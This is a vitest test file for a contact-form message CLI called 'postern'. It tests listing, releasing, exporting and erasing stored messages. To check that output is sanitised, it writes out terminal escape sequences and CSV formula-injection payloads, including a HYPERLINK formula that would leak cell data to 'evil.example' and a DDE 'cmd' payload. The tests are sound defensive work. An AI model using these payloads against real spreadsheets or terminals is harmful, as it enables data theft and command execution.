import { readFile, stat } from "node:fs/promises";
import { createServer } from "node:http";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { type Listening, listen } from "../../local/listen.ts";
import { bareShell } from "../../src/cli/bare-shell.ts";
import type { Group } from "../../src/cli/command.ts";
import { erase } from "../../src/cli/messages/erase.ts";
import { held } from "../../src/cli/messages/held.ts";
import { messages } from "../../src/cli/messages/messages.ts";
import { run } from "../../src/cli/run.ts";
import type { Dispatched } from "../../src/contact/dispatch.ts";
import { releasing } from "../../src/contact/release.ts";
import { isRelease } from "../../src/contact/release-request.ts";
import type { Submission } from "../../src/contact/submission.ts";
import type { Outcome } from "../../src/gate/gate.ts";
import { dynamoDbTable } from "../../src/stores/dynamodb.ts";
import { dynamoDbMessages } from "../../src/stores/dynamodb-messages.ts";
import type { KeptAs, KeptMessage, MessageStore } from "../../src/stores/message-store.ts";
import { type Engine, startDynalite } from "../stores/support/engines.ts";
import { createMessageTable } from "../stores/support/message-table.ts";
import { folder } from "./support/shell.ts";

const NOW_MS = Date.parse("2026-11-22T12:00:00Z");
const DAY_MS = 86_400_000;
const postern: Group = { about: "", commands: { held, messages, erase }, examples: [] };

let engine: Engine;
let lambda: ContactFunction;
beforeAll(async () => {
  engine = await startDynalite();
  lambda = await contactFunction();
});
afterAll(async () => {
  await lambda.close();
  await engine.close();
});

/** Every test has a table of its own, and what stands in it. */
let table: string;
let store: MessageStore;
let tables = 0;
beforeEach(async () => {
  tables += 1;
  table = `postern-messages-${tables}`;
  await createMessageTable(engine, table);
  store = dynamoDbMessages(dynamoDbTable({ ...engine.connection, tableName: table, timeoutMs: 30_000 }));
});
afterEach(() => lambda.reset());

/** Runs `postern ARGS` on this table, and the function beside it. */
async function cli(args: readonly string[] | string, env: Readonly<Record<string, string>> = {}) {
  const given = typeof args === "string" ? args.split(" ") : args;
  return run(postern, given, {
    ...bareShell,
    env: {
      MESSAGE_TABLE: table,
      DYNAMODB_PORT: new URL(engine.url).port,
      PORT: String(lambda.port),
      ...env,
    },
    nowMs: () => NOW_MS,
  });
}

async function json<T>(args: string): Promise<T> {
  const { stdout, stderr } = await cli(`${args} --json`);
  expect(stderr).toBe("");
  return JSON.parse(stdout) as T;
}

let ids = 0;
/** Keeps a message that came so long before now. */
async function kept(over: Partial<KeptMessage> = {}, agoMs = 0): Promise<string> {
  ids += 1;
  const id = `${new Date(NOW_MS - agoMs).toISOString()}-${String(ids).padStart(8, "0")}`;
  const keptAs: KeptAs = over.keptAs ?? "held";
  await store.keep({
    keptAs,
    id,
    name: "Ada",
    email: "ada@example.com",
    message: "Do you deliver?",
    ...(keptAs === "held" && { reason: "HONEYPOT" }),
    expiresAtMs: NOW_MS + DAY_MS,
    ...over,
  });
  return id;
}

/** Whatever a stranger may write to a terminal. */
const HOSTILE = "\u001b[2J\u001b]0;owned\u0007\u009b31m\u202eevil\u2066\u007f\u0000";
const ANY_CONTROL = /[\p{Cc}\u2028-\u202e\u2066-\u2069]/u;
const withoutLineBreaks = (text: string) => text.replaceAll("\n", "");

describe("held list", () => {
  it("shows the last seven days, the newest last", async () => {
    const [old, last, first] = [
      await kept({}, 7 * DAY_MS),
      await kept({ message: "m".repeat(61) }),
      await kept({}, 6 * DAY_MS),
    ];
    const { stdout } = await cli("held list");
    const [head, ...rows] = stdout.trimEnd().split("\n");
    expect(head).toMatch(/^ID +REASON +NAME +ADDRESS +MESSAGE$/);
    expect(rows).toEqual([
      expect.stringMatching(new RegExp(`^${first} +HONEYPOT +Ada +ada@example\\.com +Do you deliver\\?$`)),
      expect.stringMatching(new RegExp(`^${last} .* ${"m".repeat(60)}…$`)),
    ]);
    expect(stdout).not.toContain(old);
  });

  it("shows one day, and for programs everything of it", async () => {
    const id = await kept({ message: "one\r\ntwo" }, 30 * DAY_MS);
    await kept();
    expect(await json("held list --day 2026-10-23")).toEqual([
      {
        id,
        keptAs: "held",
        reason: "HONEYPOT",
        receivedAt: "2026-10-23T12:00:00.000Z",
        expiresAt: "2026-11-23T12:00:00.000Z",
        name: "Ada",
        email: "ada@example.com",
        message: "one\r\ntwo",
      },
    ]);
  });

  it("goes through all pages", async () => {
    const all = await Promise.all(Array.from({ length: 250 }, () => kept()));
    const listed = await json<{ id: string }[]>("held list");
    expect(listed.map(({ id }) => id)).toEqual(all.toSorted());
  });

  it("shows neither what has expired nor what was archived", async () => {
    await kept({ expiresAtMs: NOW_MS });
    await kept({ keptAs: "archived" });
    expect(await json("held list")).toEqual([]);
    const { stdout } = await cli("held list");
    expect(stdout).toMatch(
      /^There is no held message of the last 7 days in the table postern-messages-\d+ at/,
    );
    expect(stdout).toContain("Is HOLD_REFUSED_DAYS set?");
  });

  it.each(["yesterday", "2026-02-30", "2026-11-2", "\u001b[31m"])("--day %j is no day", async (day) => {
    const { exitCode, stderr } = await cli(["held", "list", "--day", day]);
    expect(exitCode).toBe(2);
    expect(stderr).toContain("Write, for example, --day 2026-11-22.");
  });
});

describe("what strangers wrote", () => {
  it("moves no terminal: not in the list, not one by one, not for programs, not in the export", async () => {
    const over = { name: HOSTILE, email: HOSTILE, message: `${HOSTILE}\r\n${HOSTILE}` };
    const id = await kept(over);
    const archived = await kept({ ...over, keptAs: "archived" });
    for (const args of [
      "held list",
      "held list --json",
      `held show ${id}`,
      `held show ${id} --json`,
      "messages list",
      `messages show ${archived}`,
      "messages export",
      "messages export --json",
    ]) {
      const { stdout, exitCode } = await cli(args);
      expect(exitCode, args).toBe(0);
      expect(stdout, args).toContain("evil");
      expect(withoutLineBreaks(stdout).replaceAll("\r", ""), args).not.toMatch(ANY_CONTROL);
    }
  });

  it("passes for no line of ours", async () => {
    const id = await kept({ message: "Hello\nid   2026-11-22T00:00:00.000Z-forged" });
    const { stdout } = await cli(`held show ${id}`);
    expect(stdout.match(/^id /gm)).toHaveLength(1);
    expect(stdout).toContain("\n  id   2026-11-22T00:00:00.000Z-forged");
  });
});

describe("held show", () => {
  it("shows all of a message", async () => {
    const id = await kept({ message: "One\n\nTwo" });
    const { stdout } = await cli(`held show ${id}`);
    expect(stdout).toBe(
      [
        `id           ${id}`,
        "refused for  HONEYPOT",
        "received     2026-11-22 12:00 UTC",
        "kept until   2026-11-23 12:00 UTC",
        "name         Ada",
        "address      ada@example.com",
        "",
        "  One",
        "  ",
        "  Two",
        "",
      ].join("\n"),
    );
  });

  it.each(["nothing", "2026-11-22T12:00:00.000Z-nothing", "held#2026-11-22", " "])(
    "says that there is no %j",
    async (id) => {
      const { exitCode, stderr } = await cli(["held", "show", id]);
      expect(exitCode).toBe(1);
      expect(stderr).toContain(`There is no held message "${id}" in the table ${table}`);
    },
  );
});

describe("held drop", () => {
  it("deletes one message and no other", async () => {
    const [id, other] = [await kept(), await kept()];
    const { stdout } = await cli(`held drop ${id}`);
    expect(stdout).toMatch(new RegExp(`^Dropped ${id} from the table ${table} at .* \\(local\\)\\.\n$`));
    expect((await json<{ id: string }[]>("held list")).map((each) => each.id)).toEqual([other]);
    expect((await cli(`held drop ${id}`)).exitCode).toBe(1);
  });
});

describe("several at once", () => {
  it("are released one by one", async () => {
    const [one, two, three] = [await kept(), await kept(), await kept()];
    expect(await json(`held release ${one} ${two}`)).toMatchObject({ released: [one, two], table });
    expect(lambda.sent()).toHaveLength(2);
    expect((await json<{ id: string }[]>("held list")).map(({ id }) => id)).toEqual([three]);
  });

  it("are dropped until one cannot be, and what was done is told", async () => {
    const [one, two] = [await kept(), await kept()];
    const { exitCode, stderr } = await cli(`held drop ${one} nothing ${two}`);
    expect(exitCode).toBe(1);
    expect(stderr).toContain(`Dropped ${one}. Then: There is no held message "nothing"`);
    expect((await json<{ id: string }[]>("held list")).map(({ id }) => id)).toEqual([two]);
  });
});

describe("held release", () => {
  it("has the function send the message, and removes it", async () => {
    const id = await kept({ message: "Grüße 😀" });
    const { stdout } = await cli(`held release ${id}`);
    expect(stdout).toContain(`Released ${id} from the table ${table}`);
    expect(lambda.sent()).toEqual([{ name: "Ada", email: "ada@example.com", message: "Grüße 😀" }]);
    expect(lambda.invoked()).toEqual(["postern-contact-dev"]);
    expect(await json("held list")).toEqual([]);
    expect((await cli(`held release ${id}`)).stderr).toContain("There is no held message");
    expect(lambda.sent()).toHaveLength(1);
  });

  it.each([
    ["was not sent", { sent: false, reason: "MessageRejected" }],
    ["may have been sent", { sent: "unknown", reason: "TimeoutError" }],
  ] as const)("keeps a message that %s", async (_what, outcome) => {
    const id = await kept();
    lambda.answer(outcome);
    const { exitCode, stderr } = await cli(`held release ${id}`);
    expect(exitCode).toBe(1);
    expect(stderr).toMatch(/has not sent it: SEND_FAILED\. .* Look whether the message has come/);
    expect(await json("held list")).toHaveLength(1);
  });

  it("keeps a message that the form would not take, and says why", async () => {
    const id = await kept({ name: "" });
    const { stderr } = await cli(`held release ${id}`);
    expect(stderr).toContain("has not sent it: MISSING_FIELDS.");
    expect(stderr).toContain("It is still held.");
    expect(await json("held list")).toHaveLength(1);
  });

  it.each([
    ["breaks", { status: 200, headers: { "x-amz-function-error": "Unhandled" }, body: '{"success":true}' }],
    ["answers as to HTTP", { status: 200, headers: {}, body: '{"statusCode":200,"body":"{}"}' }],
    ["answers nothing", { status: 200, headers: {}, body: "null" }],
    ["answers no JSON", { status: 200, headers: {}, body: "sent" }],
  ])("keeps a message when the function %s", async (_what, answer) => {
    const id = await kept();
    lambda.answerRaw(answer);
    const { exitCode, stderr } = await cli(`held release ${id}`);
    expect({ exitCode, stderr }).toMatchObject({
      exitCode: 1,
      stderr: expect.stringContaining("does not say that it was sent"),
    });
    expect(await json("held list")).toHaveLength(1);
  });

  it.each([
    ["ResourceNotFoundException", 404, "is not there. Deploy first"],
    ["AccessDeniedException", 403, "They need lambda:InvokeFunction."],
    ["ServiceException", 500, "failed with ServiceException. Look whether the message has come"],
  ])("keeps a message when Lambda says %s, and asks once", async (name, status, sentence) => {
    const id = await kept();
    lambda.answerRaw({ status, headers: { "x-amzn-errortype": name }, body: "{}" });
    const { stderr } = await cli(`held release ${id}`);
    expect(stderr).toMatch(/^postern: [^\n]+\n$/);
    expect(stderr).toContain(sentence);
    expect(lambda.invoked()).toHaveLength(1);
    expect(await json("held list")).toHaveLength(1);
  });

  it("keeps a message when nobody listens, and says what to start", async () => {
    const id = await kept();
    const { stderr } = await cli(`held release ${id}`, { PORT: "1" });
    expect(stderr).toContain("postern-contact-dev (local) does not answer. Run npm start");
    expect(await json("held list")).toHaveLength(1);
  });

  it("asks the function of the stage, where AWS is by its usual environment", async () => {
    const id = await kept();
    const aws = {
      AWS_REGION: "eu-north-1",
      AWS_ACCESS_KEY_ID: "a",
      AWS_SECRET_ACCESS_KEY: "b",
      AWS_ENDPOINT_URL_DYNAMODB: engine.url,
      AWS_ENDPOINT_URL_LAMBDA: `http://127.0.0.1:${lambda.port}`,
    };
    // What the SDK looks for by itself.
    for (const [name, value] of Object.entries(aws)) vi.stubEnv(name, value);
    try {
      const { stderr } = await cli(`held release ${id} --stage prod`, aws);
      expect(stderr).toBe("");
      expect(lambda.invoked()).toEqual(["postern-contact-prod"]);
    } finally {
      vi.unstubAllEnvs();
    }
  });
});

describe("messages export", () => {
  const archived = (over: Partial<KeptMessage>, agoMs = 0) => kept({ keptAs: "archived", ...over }, agoMs);

  it("writes every day that is kept, the oldest first, as RFC 4180 says", async () => {
    const [late, early] = [
      await archived({ name: 'Ada "the first", Countess', message: "One\r\nTwo" }),
      await archived({}, 400 * DAY_MS),
    ];
    const between = [];
    for (let days = 1; days < 9; days += 1) between.unshift(await archived({}, days * DAY_MS));
    await archived({ expiresAtMs: NOW_MS });
    await kept();
    const { stdout } = await cli("messages export");
    const [head, first, ...others] = stdout.trimEnd().split("\r\n");
    expect([head, first, others.at(-1)]).toEqual([
      '"id","receivedAt","name","email","message","expiresAt"',
      `"${early}","2025-10-18T12:00:00.000Z","Ada","ada@example.com","Do you deliver?","2026-11-23T12:00:00.000Z"`,
      `"${late}","2026-11-22T12:00:00.000Z","Ada ""the first"", Countess","ada@example.com","One\nTwo","2026-11-23T12:00:00.000Z"`,
    ]);
    expect((await json<{ id: string }[]>("messages export")).map(({ id }) => id)).toEqual([
      early,
      ...between,
      late,
    ]);
  });

  it.each([
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tx=1",
    "\nx=1",
    "＝1+1",
  ])("makes no formula of %j, in any column", async (formula) => {
    await archived({ name: `a${formula}`, email: formula, message: formula });
    const { stdout } = await cli("messages export");
    const fields = stdout.split(/","|"\r?\n"?/);
    expect(fields.filter((field) => /^[=+\-@\t\r\n＝]/.test(field))).toEqual([]);
    expect(stdout, "in the middle it is no formula").toContain('"a');
  });

  it("writes a new file, for its owner alone, and never over another", async () => {
    const id = await archived({});
    const here = await folder({ "taken.csv": "mine" });
    try {
      const path = join(here.path, "new.csv");
      const { stdout } = await cli(["messages", "export", "--file", path]);
      expect(stdout).toContain(`Wrote 1 message from the table ${table}`);
      // With a byte order mark: without it Excel takes UTF-8 for the code page of its machine.
      expect(await readFile(path, "utf8")).toMatch(new RegExp(`^\ufeff"id",.*\r\n"${id}",.*\r\n$`));
      expect((await cli("messages export")).stdout, "for the next program").toMatch(/^"id"/);
      expect((await stat(path)).mode & 0o777).toBe(0o600);

      const taken = join(here.path, "taken.csv");
      const { exitCode, stderr } = await cli(["messages", "export", "--file", taken]);
      expect({ exitCode, stderr }).toMatchObject({
        exitCode: 1,
        stderr: expect.stringContaining("it is there already"),
      });
      expect(await readFile(taken, "utf8")).toBe("mine");
    } finally {
      await here.remove();
    }
  });
});

describe("erase", () => {
  it("deletes every message of an address, held or archived, expired or not, and says what it read", async () => {
    const theirs = [
      await kept({ email: "ada.lovelace@gmail.com" }),
      await kept({ email: "Ada.Love.Lace+shop@GoogleMail.com", keptAs: "archived" }, 90 * DAY_MS),
      await kept({ email: "Ada <adalovelace@gmail.com>", expiresAtMs: NOW_MS - DAY_MS }),
    ];
    const others = [
      await kept({ email: "adalovelace@gmail.com.example" }),
      await kept({ email: "ada.lovelace@example.com", message: "adalovelace@gmail.com" }),
      await kept({ email: "" }),
    ];
    const { stdout } = await cli("erase adalovelace+x@gmail.com");
    expect(stdout).toMatch(/^Read 6 messages in postern-messages-\d+ at .* \(local\), erased 3\.\n/);
    for (const sentence of ["mails that were sent", "dead-letter queue", "blocked senders", "backups"]) {
      expect(stdout).toContain(sentence);
    }
    const left = (await store.ofAddress(() => true)).found.map(({ id }) => id);
    expect(left.toSorted()).toEqual(others.toSorted());
    expect(left).not.toEqual(expect.arrayContaining(theirs.slice(0, 1)));
    expect(await json("erase adalovelace@gmail.com")).toMatchObject({ scanned: 3, erased: 0, table });
  });

  it("with --dry-run says which, and deletes none", async () => {
    const held = await kept({ email: "ada.lovelace@gmail.com" });
    const archived = await kept({ email: "AdaLovelace@gmail.com", keptAs: "archived" });
    await kept({ email: "eve@example.com" });
    const { stdout } = await cli("erase adalovelace@gmail.com --dry-run");
    expect(stdout).toMatch(/^Read 3 messages in .*, would erase 2\. Erased nothing\.\n/);
    expect(stdout).toContain(`  ${held}  held\n`);
    expect(stdout).toContain(`  ${archived}  archived\n`);
    expect(await json("erase adalovelace@gmail.com --dry-run")).toMatchObject({
      erased: 0,
      wouldErase: expect.arrayContaining([{ keptAs: "held", id: held }]),
    });
    expect((await store.ofAddress(() => true)).found).toHaveLength(3);
  });

  it.each(["ada", "ada@localhost", "two words@example.com", "a@example.com,b@example.com"])(
    "%j is no address: nothing is deleted",
    async (address) => {
      await kept();
      expect(await cli(["erase", address])).toMatchObject({ exitCode: 2, stdout: "" });
      expect(await json("held list")).toHaveLength(1);
    },
  );
});

type ContactFunction = Awaited<ReturnType<typeof contactFunction>>;

/** The Invoke API on the wire, and behind it the release as the function has it. */
async function contactFunction() {
  const fresh = () => ({
    outcome: { sent: true, value: { reason: "SENT" } } as Outcome<Dispatched>,
    raw: undefined as RawAnswer | undefined,
    sent: [] as Submission[],
    invoked: [] as string[],
  });
  let state = fresh();
  const release = releasing({
    dispatch: async (accepted) => {
      state.sent.push(accepted.submission);
      return state.outcome;
    },
  });
  const at = { nowMs: NOW_MS, elapsedMs: () => 0, signal: new AbortController().signal };
  const server = createServer(async (request, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const name = /^\/2015-03-31\/functions\/([^/]+)\/invocations$/.exec(request.url ?? "")?.[1];
    state.invoked.push(name ?? `no function: ${request.url}`);
    const event: unknown = JSON.parse(Buffer.concat(chunks).toString());
    if (!isRelease(event)) throw new Error("The command invokes for nothing but a release");
    const { status, headers, body } = state.raw ?? {
      status: 200,
      headers: {},
      body: JSON.stringify((await release(event, at)).answer),
    };
    response.writeHead(status, { "content-type": "application/json", ...headers }).end(body);
  });
  const { port, close }: Listening = await listen(server, 0, "the port of the function");
  return {
    port,
    close,
    sent: () => state.sent,
    invoked: () => state.invoked,
    answer: (outcome: Outcome<Dispatched>) => {
      state.outcome = outcome;
    },
    answerRaw: (raw: RawAnswer) => {
      state.raw = raw;
    },
    reset: () => {
      state = fresh();
    },
  };
}

interface RawAnswer {
  readonly status: number;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
}
